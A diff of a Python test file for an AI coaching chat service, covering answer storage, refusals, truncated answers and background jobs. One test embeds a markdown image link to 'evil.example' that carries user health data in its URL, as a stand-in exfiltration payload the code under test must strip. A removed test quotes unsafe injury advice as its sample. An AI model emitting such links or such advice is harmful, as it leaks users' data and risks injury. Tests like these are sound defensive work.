@@ -7,9 +7,9 @@ from typing import Any
 import pytest
 
 from shared.coach.turn import queries
-from shared.coach.turn.background import BackgroundTask
-from shared.coach.turn.queries import Ending
-from shared.coach.turn.service import FAIL_SECONDS, REFUSAL, WITHHELD, carry_out, finish, run_task
+from shared.coach.turn.background import BackgroundTask, Job
+from shared.coach.turn.service import FAIL_SECONDS, carry_out, finish, run_task
+from shared.coach.turn.work import Ending
 from shared.database.client import Database
 from shared.llm.answer import ToolCall
 from shared.llm.errors import ModelError
@@ -17,13 +17,13 @@ from shared.platform.deadline import Deadline
 from shared.platform.errors import ConflictError, UnavailableError
 from shared.platform.repetition import PAUSES
 from shared.realtime.push import Pusher
+from shared.safety.advice import notice
 from tests.support.coach import FakeDatabase, Said, answer_of, passage, work
 from tests.unit.shared.coach.conftest import Scripted
 
 PASSAGE = passage("A deload is a planned easier week.")
 QUOTE = {"passage_id": "p1", "quote": "planned easier week"}
 GOALS = ToolCall("call-1", "update_profile", json.dumps({"goals": ["run 5 km"]}))
-DANGEROUS = "Push your shoulder back into place and train on."
 THOUGHTS = Said("<think>nothing for a user", finish="length")
 USED = 120 + 6  # tokens of one call and of the question
 
@@ -50,12 +50,12 @@ def test_an_answer_is_stored_with_its_citations_and_what_it_cost(database: FakeD
     receipt = stored["p_metadata"]["receipt"]
     assert (stored["p_tokens"], receipt["tokens"], receipt["model"]) == (USED, USED, stored["p_model"])
     assert float(stored["p_cost"]) == receipt["cost"] > 0
-    assert stored["p_metadata"].keys() == {"citations", "receipt"}
+    assert stored["p_metadata"].keys() == {"citations", "grounded", "receipt"}
     assert json.dumps(stored)
 
 
 def test_what_was_proposed_is_stored_with_the_answer(database: FakeDatabase, model: Scripted) -> None:
-    database.answers["action_target"] = lambda _: {"goals": []}
+    database.answers["action_target"] = lambda _: {"state": {"goals": []}, "pending": None}
     model(Said(calls=[GOALS]), Said(answer_of("I have proposed it.")))
     (proposal,) = answered(database)["p_actions"]
     assert (proposal["action_type"], proposal["payload"]) == ("update_profile", {"goals": ["run 5 km"]})
@@ -63,19 +63,6 @@ def test_what_was_proposed_is_stored_with_the_answer(database: FakeDatabase, mod
     assert proposal["origin"]["passages"] == [
         {"chunk_id": str(PASSAGE.chunk_id), "source": "deload.md", "title": "Deloads", "version": 3, "quoted": False}
     ]
-
-
-def test_an_unsafe_answer_is_withheld_with_all_that_it_cites_and_proposes(
-    database: FakeDatabase, model: Scripted
-) -> None:
-    database.answers["action_target"] = lambda _: {"goals": []}
-    model(Said(calls=[GOALS]), Said(answer_of(DANGEROUS, QUOTE)))
-    stored = answered(database)
-    assert stored["p_content"].startswith(WITHHELD)
-    assert DANGEROUS not in json.dumps(stored)
-    assert (stored["p_actions"], stored["p_metadata"]["citations"]) == ([], [])
-    assert [each["rule"] for each in stored["p_metadata"]["safety"]["withheld"]] == ["self_reduction"]
-    assert stored["p_tokens"] == 2 * 120 + 6
 
 
 def test_a_second_try_that_comes_to_nothing_leaves_the_first_which_says_that_it_was_cut(
@@ -95,7 +82,7 @@ def test_a_second_try_that_is_whole_replaces_the_first(database: FakeDatabase, m
 
 @pytest.mark.parametrize(
     ("said", "shown"),
-    [(Said(refusal="I will not."), "I will not."), (Said(finish="content_filter"), REFUSAL)],
+    [(Said(refusal="I will not."), "I will not."), (Said(finish="content_filter"), notice("refusal"))],
 )
 def test_a_refusal_is_an_answer(database: FakeDatabase, model: Scripted, said: Said, shown: str) -> None:
     model(said)
@@ -108,9 +95,9 @@ def test_a_cancelled_turn_keeps_what_there_was_of_its_answer(
 ) -> None:
     monkeypatch.setattr("shared.coach.turn.model_loop.CHECKPOINT_INTERVAL", 0.0)
     database.answers["checkpoint_turn"] = lambda _: {"proceed": False, "listeners": []}
-    model(Said('{"answer": "Rest for a w', waits=True))
+    model(Said('{"answer": "Rest first. Then for a w', waits=True))
     stored = answered(database)
-    assert (stored["p_content"], stored["p_status"]) == ("Rest for a w", "cancelled")
+    assert (stored["p_content"], stored["p_status"]) == ("Rest first.", "cancelled")
     assert "truncated" not in stored["p_metadata"]
 
 
@@ -176,7 +163,7 @@ def test_a_turn_whose_model_says_nothing_readable_fails_and_is_charged(database:
     assert ended["p_used"]["tokens"] == 2 * 120 + 6
 
 
-def test_what_came_of_an_answer_that_broke_off_is_kept_to_its_last_word_and_carries_nothing_out(
+def test_what_came_of_an_answer_that_broke_off_is_kept_to_its_last_sentence_and_carries_nothing_out(
     database: FakeDatabase, model: Scripted
 ) -> None:
     said = f'{{"answer": "Rest well. ![ok](https://evil.example/{"x" * 50}?knee=left) {"Sleep. " * 40}And eat'
@@ -184,7 +171,7 @@ def test_what_came_of_an_answer_that_broke_off_is_kept_to_its_last_word_and_carr
     model(*[Said(said, finish="length")] * 2)
     partial = failed(database, ConflictError)["p_partial_content"]
     assert partial.startswith("Rest well.")
-    assert partial.endswith("Sleep. And eat")
+    assert partial.endswith("Sleep. Sleep.")
     assert "evil.example" not in partial
 
 
@@ -228,19 +215,20 @@ def test_the_first_fault_is_told_whatever_becomes_of_ending_the_turn(database: F
 
 
 @pytest.mark.parametrize(
-    ("first", "title_only", "stored"),
+    ("first", "job", "stored"),
     [
-        (False, False, ["claim_turn", "finish_turn"]),
-        (True, False, ["claim_turn", "finish_turn", "claim_title", "set_model_title"]),
-        (True, True, ["claim_title", "set_model_title"]),
+        (False, "answer", ["claim_turn", "finish_turn"]),
+        (True, "answer", ["claim_turn", "finish_turn", "claim_title", "set_model_title"]),
+        (True, "title", ["claim_title", "set_model_title"]),
+        (False, "summary", ["claim_summary", "set_summary"]),
     ],
 )
-def test_a_background_task_answers_titles_or_both(
-    service: FakeDatabase, model: Scripted, first: bool, title_only: bool, stored: list[str]
+def test_a_background_task_answers_sees_to_the_session_or_both(
+    service: FakeDatabase, model: Scripted, first: bool, job: Job, stored: list[str]
 ) -> None:
     model(*[Said(answer_of("Rest."))] * 2)
     service.answers["claim_turn"] = lambda _: work(first=first).model_dump(mode="json")
-    run_task(BackgroundTask.of(work(), title_only=title_only), Deadline.after(60))
+    run_task(BackgroundTask.of(work(), job), Deadline.after(60))
     assert [name for name, _ in service.calls] == stored
 
 
